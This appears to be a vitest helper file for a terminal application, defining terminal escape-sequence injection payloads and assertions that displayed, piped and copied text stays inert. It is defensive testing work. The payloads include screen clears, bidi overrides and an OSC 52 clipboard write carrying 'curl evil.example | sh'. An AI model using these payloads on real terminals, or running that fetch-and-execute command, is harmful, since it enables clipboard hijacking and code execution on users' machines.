import { expect } from "vitest";
import { displayWidth } from "../../src/text/width.js";

/**
 * What a hostile user can type into a field that ccx later shows: each case is
 * named, so a failure says which one got through. `mark` is a plain word put
 * next to the payload, to find the field on screen and in the clipboard.
 */
export interface Payload {
  name: string;
  text: string;
}

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;
/** What an OSC 52 payload would put on the victim's clipboard. */
const STOLEN_CLIPBOARD = Buffer.from("curl evil.example | sh\n").toString("base64");

export const PAYLOADS: readonly Payload[] = [
  { name: "csi-clear", text: `${ESC}[2J${ESC}[H` },
  { name: "csi-sgr", text: `${ESC}[31mred${ESC}[0m` },
  { name: "csi-cursor", text: `${ESC}[10;10Hmoved${ESC}[1A` },
  { name: "osc-title", text: `${ESC}]0;title${BEL}` },
  { name: "osc-52-clipboard", text: `${ESC}]52;c;${STOLEN_CLIPBOARD}${BEL}` },
  { name: "osc-8-hyperlink", text: `${ESC}]8;;http://evil${ST}link${ESC}]8;;${ST}` },
  { name: "dcs", text: `${ESC}Pq#0;2;0;0;0#0~~@@${ST}` },
  { name: "apc", text: `${ESC}_Gf=100,a=T;AAAA${ST}` },
  { name: "pm-sos", text: `${ESC}^private${ST}${ESC}Xstart${ST}` },
  { name: "c1-csi", text: "\u009b2J\u009b31m" },
  { name: "c1-osc", text: `\u009d0;t${BEL}\u0090dcs\u009c` },
  { name: "lone-esc", text: `${ESC}` },
  { name: "bel", text: `${BEL}${BEL}` },
  { name: "backspace", text: "abc\u0008\u0008\u0008XYZ" },
  { name: "carriage-return", text: "real\rfake" },
  { name: "nul-del", text: "a\u0000b\u007fc" },
  { name: "bidi-override", text: "\u202eevil\u202c" },
  { name: "bidi-isolate", text: "\u2066iso\u2069\u2067rtl\u2069" },
  { name: "zero-width", text: "z\u200bw\u200cj\u200d\ufeffx" },
  { name: "line-breaks", text: "one\ntwo\r\nthree\u2028four\tfive\u000bsix\u000cseven" },
  { name: "long", text: `${"W".repeat(1500)}${ESC}[2J${"宽".repeat(600)}` },
];

/** The payload of a case by name. */
export const payload = (name: string): string => PAYLOADS.find((p) => p.name === name)!.text;

/** Every payload in one string, for a field that carries them all (an error message). */
export const ALL_IN_ONE = PAYLOADS.filter((p) => p.name !== "long").map((p) => `<${p.name}>${p.text}`).join(" ");

/**
 * Characters a terminal acts on, or that hide or reorder text: C0 but the
 * newline between lines, DEL, C1, bidi controls, zero-width and other
 * invisible format characters, the line and paragraph separators.
 */
export const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]/u;

/**
 * The styles Ink writes for a no-colour theme (bold, inverse, underline, dim
 * and their resets), if this process makes it write styles at all
 * (FORCE_COLOR). A colour, a cursor move or a clear is never one of them.
 */
const INK_SGR = /\u001b\[(?:1|2|4|7|22|24|27)m/g;

const where = (text: string, index: number) =>
  `U+${text.codePointAt(index)!.toString(16).padStart(4, "0")} at ${index}: ${JSON.stringify(text.slice(Math.max(0, index - 30), index + 30))}`;

/** A frame or printout that acts on nothing: no ESC but Ink's own styles, no control but the newline. */
export function expectInert(text: string, what: string): void {
  const active = ACTIVE.exec(text.replace(INK_SGR, ""));
  expect(active && `${what}: ${where(text.replace(INK_SGR, ""), active.index)}`).toBeNull();
}

/** Output to a pipe or a file (stdout, stderr): no ESC at all, no control but the newline. */
export function expectPlain(text: string, what: string): void {
  const active = ACTIVE.exec(text);
  expect(active && `${what}: ${where(text, active.index)}`).toBeNull();
}

/** Every line at most `columns` wide, and at most `rows` lines. */
export function expectFits(frame: string, columns: number, rows: number, what: string): void {
  const lines = frame.replace(INK_SGR, "").split("\n");
  expect(lines.length, `${what}: ${lines.length} lines for ${rows} rows`).toBeLessThanOrEqual(rows);
  for (const line of lines) {
    const width = displayWidth(line);
    if (width > columns) expect.fail(`${what}: a line of ${width} columns for ${columns}: ${JSON.stringify(line.slice(0, 120))}…`);
  }
}

/**
 * Copied text that carries no live character: a terminal that it is pasted
 * into sees no ESC, no control, nothing invisible, and (but for JSON's own
 * line breaks) no line break: a paste that ends a line runs it. JSON may say
 * them all, escaped (`\u001b`).
 */
export function expectSafeCopy(text: string, what: string, multiline = false): void {
  const active = ACTIVE.exec(text) ?? (multiline ? null : /\n/.exec(text));
  expect(active && `${what}: ${where(text, active.index)}`).toBeNull();
}
